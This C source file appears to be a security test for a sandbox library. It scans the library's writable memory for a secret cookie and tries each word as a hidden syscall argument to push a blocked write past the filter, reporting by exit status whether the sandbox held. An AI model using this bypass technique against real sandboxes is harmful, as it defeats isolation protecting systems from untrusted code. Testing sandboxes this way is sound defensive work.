/*
 * cookie_thief: looks for the blocked-syscall report's cookie in libsandbox.so's writable
 * memory (no system call needed to read it) and tries each word as write's fourth argument
 * with a 1 MiB write to fd 2. Exit status: 0 when no write got through, 1 when one did,
 * 2 when the library's memory was not found. Run it where refused writes fail with an
 * errno (a kill would end the search at the first wrong guess).
 */
#define _GNU_SOURCE
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
	static char payload[1 << 20];
	char line[512];
	uintptr_t lo[16], hi[16];
	int n = 0;
	bool after_library = false;
	FILE *maps = fopen("/proc/self/maps", "r");
	if (!maps)
		return 2;
	/* The library's data, and the anonymous mapping that follows it (its .bss). */
	while (n < 16 && fgets(line, sizeof(line), maps)) {
		unsigned long a, b;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) != 3)
			continue;
		bool library = strstr(line, "libsandbox.so") != NULL;
		bool anonymous = strchr(line, '/') == NULL && strchr(line, '[') == NULL;
		if (!strcmp(perms, "rw-p") && (library || (after_library && anonymous)))
			lo[n] = a, hi[n++] = b;
		after_library = library;
	}
	fclose(maps);
	if (!n)
		return 2;
	memset(payload, 'x', sizeof(payload));
	for (int m = 0; m < n; m++)
		for (uintptr_t p = lo[m]; p < hi[m]; p += 8) {
			uint64_t word = *(const uint64_t *)p;
			if (word && syscall(SYS_write, 2, payload, sizeof(payload), word) > 0)
				return 1;
		}
	return 0;
}
